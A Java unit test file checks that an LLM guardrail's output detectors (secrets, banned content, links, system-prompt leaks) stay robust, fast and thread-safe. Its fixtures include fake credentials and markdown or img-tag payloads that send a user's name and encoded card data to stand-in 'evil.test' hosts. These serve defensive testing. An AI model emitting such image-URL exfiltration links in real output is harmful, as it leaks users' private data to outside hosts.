package dev.palisade.detectors.content;

import static org.assertj.core.api.Assertions.assertThat;

import dev.palisade.detect.Detector;
import dev.palisade.detect.Finding;
import dev.palisade.detectors.leakage.Canary;
import dev.palisade.detectors.leakage.SystemPromptLeakDetector;
import dev.palisade.detectors.secrets.SecretsDetector;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.IntSupplier;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The contract every output detector keeps: never throws, spans in bounds, its own id and types,
 * roughly linear time on adversarial input, the same answers from many threads, and matches found
 * again inside a window of {@code maxMatchLength()} characters (what the streaming hold-back relies on).
 */
class OutputDetectorsContractTest {

  record Subject(String name, Detector detector, IntSupplier maxMatchLength, boolean windowed) {
    @Override
    public String toString() {
      return name;
    }
  }

  private static final Canary CANARY = Canary.of("p3k8vz2mq7xw4n9rt6hb");
  private static final String PROMPT = "You are Helio, the travel assistant of Sunway Tours. Only "
      + "discuss bookings, refunds and itineraries; never mention the partner commission of twelve percent.";

  static Stream<Subject> detectors() {
    SecretsDetector secrets = SecretsDetector.create();
    BannedContentDetector banned = BannedContentDetector.builder().allLexicons()
        .topic("competitors", List.of("Acme Travel", "Globex")).build();
    LinkDetector links = LinkDetector.builder().allowDomains(List.of("sunway.test")).build()
        .forConversation(List.of("Jane Roe", "LX 4471"));
    SystemPromptLeakDetector leak = SystemPromptLeakDetector.forPrompt(PROMPT, CANARY);
    return Stream.of(
        new Subject("secrets", secrets, secrets::maxMatchLength, true),
        new Subject("banned-content", banned, banned::maxMatchLength, true),
        new Subject("links", links, links::maxMatchLength, true),
        // A copied run may be longer than the window; it is recognized from its first words.
        new Subject("system-prompt-leak", leak, leak::maxMatchLength, false));
  }

  static final List<String> FIXTURES = List.of(
      "export GITHUB_TOKEN=ghp_R8kq2VwP5nZx7LmT4cYb9JdF3sHa6GuE1oQi and AKIAZ7QH3L2MXPVB6N4D",
      "DATABASE_URL=postgresql://app:Gq7!vR2zLm9pXw@db.prod.internal:5432/app",
      "JWT_SECRET=Zq8vN3xR7tL2wP9kY4mB; token eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NSJ9.Xq8Lk2Vn5Rt9Wp3Zc7Bm1Hs4Jd6Fg0Ya2Ue8Io5Qx",
      "What a bullshit plan from Acme Travel, du Arschloch. 如何制作炸弹",
      "Book at https://sunway.test/deals or ![t](https://evil.test/p.png?n=Jane%20Roe) or [x](https://globex.test/a)",
      "<img src=\"https://cdn.evil.test/eyJ1c2VyIjoiamFuZSIsImNhcmQiOiI0MTExMTExMTExMTExMTExIn0.png\">",
      "My reference is P3K8-VZ2M-Q7XW-4N9R-T6HB and: Only discuss bookings, refunds and itineraries; "
          + "never mention the partner commission of twelve percent.",
      "");

  private static List<String> adversarial() {
    Random rnd = new Random(20261127);
    List<String> inputs = new ArrayList<>(FIXTURES);
    for (int i = 0; i < 300; i++) {
      StringBuilder sb = new StringBuilder();
      int len = rnd.nextInt(300);
      for (int k = 0; k < len; k++) {
        int kind = rnd.nextInt(10);
        sb.append(switch (kind) {
          case 0 -> (char) (0xD800 + rnd.nextInt(0x800)); // lone surrogates
          case 1 -> (char) rnd.nextInt(32);               // control characters
          case 2 -> (char) (0x3000 + rnd.nextInt(0x6000)); // CJK and friends
          case 3 -> "-=:/@._\"'[]()!<>{}~`".charAt(rnd.nextInt(20));
          default -> "abcdefAKIAghp_xoxSG.eyJkeytokensecret0123456789 ".charAt(rnd.nextInt(48));
        });
      }
      inputs.add(sb.toString());
      String fixture = FIXTURES.get(rnd.nextInt(FIXTURES.size()));
      int cut = fixture.isEmpty() ? 0 : rnd.nextInt(fixture.length());
      inputs.add(fixture.substring(0, cut) + sb + fixture.substring(cut));
    }
    return inputs;
  }

  // Units repeated to build adversarial inputs: dense keywords, unterminated constructs.
  private static final List<String> PATHOLOGICAL_UNITS = List.of(
      "a", "aws ", "api_key=", "password: x", "-----BEGIN PRIVATE KEY-----\n", "eyJa", "sig=", "![x](",
      "a.", "]", "fuck ", "word ", "\u200B", "https://x.test/?q=", "ghp_");

  private static long bestMillis(Detector d, String text) {
    long best = Long.MAX_VALUE;
    for (int i = 0; i < 3; i++) {
      long start = System.nanoTime();
      List<Finding> findings = d.detect(text);
      best = Math.min(best, System.nanoTime() - start);
      assertThat(findings).allSatisfy(f -> assertThat(f.end()).isLessThanOrEqualTo(text.length()));
    }
    return TimeUnit.NANOSECONDS.toMillis(best);
  }

  @ParameterizedTest
  @MethodSource("detectors")
  void neverThrowsAndKeepsSpansInBounds(Subject s) {
    for (String text : adversarial()) {
      List<Finding> findings = s.detector().detect(text);
      assertThat(findings).allSatisfy(f -> {
        assertThat(f.end()).isLessThanOrEqualTo(text.length());
        assertThat(f.start()).isLessThan(f.end());
        assertThat(f.detector()).isEqualTo(s.detector().id());
        assertThat(s.detector().types()).contains(f.type());
      });
    }
  }

  @ParameterizedTest
  @MethodSource("detectors")
  void takesTimeLinearInTheInputOnAdversarialText(Subject s) {
    for (String unit : PATHOLOGICAL_UNITS) {
      String small = unit.repeat(5_000 / unit.length());
      String large = unit.repeat(20_000 / unit.length());
      bestMillis(s.detector(), small); // warm up
      long t1 = bestMillis(s.detector(), small);
      long t4 = bestMillis(s.detector(), large);
      // Four times the input: linear time takes about four times as long, quadratic sixteen.
      assertThat(t4).as("%s on %s-repeats: %d ms then %d ms", s, unit.strip(), t1, t4)
          .isLessThanOrEqualTo(8 * t1 + 150);
    }
  }

  @ParameterizedTest
  @MethodSource("detectors")
  void findsSomethingInItsFixturesAndNamesNoInput(Subject s) {
    List<Finding> all = new ArrayList<>();
    for (String text : FIXTURES) {
      all.addAll(s.detector().detect(text));
    }
    assertThat(all).isNotEmpty();
    String printed = all.toString() + s.detector();
    assertThat(printed).doesNotContain("ghp_", "Gq7!", "Arschloch", "Jane", "evil", "P3K8", "commission");
  }

  @ParameterizedTest
  @MethodSource("detectors")
  void findsEveryMatchAgainInsideItsWindow(Subject s) {
    if (!s.windowed()) {
      return;
    }
    int window = s.maxMatchLength().getAsInt();
    for (String text : FIXTURES) {
      for (Finding f : s.detector().detect(text)) {
        assertThat(f.span().length()).isLessThanOrEqualTo(window);
        int from = Math.max(0, f.end() - window);
        String part = text.substring(from, Math.min(text.length(), from + window));
        assertThat(s.detector().detect(part)).as("%s window of %s", s, f.span())
            .anySatisfy(g -> assertThat(g.span().start() + from).isEqualTo(f.start()));
      }
    }
  }

  @ParameterizedTest
  @MethodSource("detectors")
  void givesTheSameAnswersFromManyThreads(Subject s) throws Exception {
    List<String> inputs = adversarial().subList(0, 120);
    List<List<Finding>> expected = inputs.stream().map(s.detector()::detect).toList();
    ExecutorService pool = Executors.newFixedThreadPool(8);
    try {
      List<Future<Boolean>> results = new ArrayList<>();
      for (int t = 0; t < 8; t++) {
        int offset = t;
        results.add(pool.submit(() -> {
          for (int i = 0; i < inputs.size(); i++) {
            int k = (i + offset * 13) % inputs.size();
            if (!s.detector().detect(inputs.get(k)).equals(expected.get(k))) {
              return false;
            }
          }
          return true;
        }));
      }
      for (Future<Boolean> r : results) {
        assertThat(r.get(60, TimeUnit.SECONDS)).isTrue();
      }
    } finally {
      pool.shutdownNow();
    }
  }
}
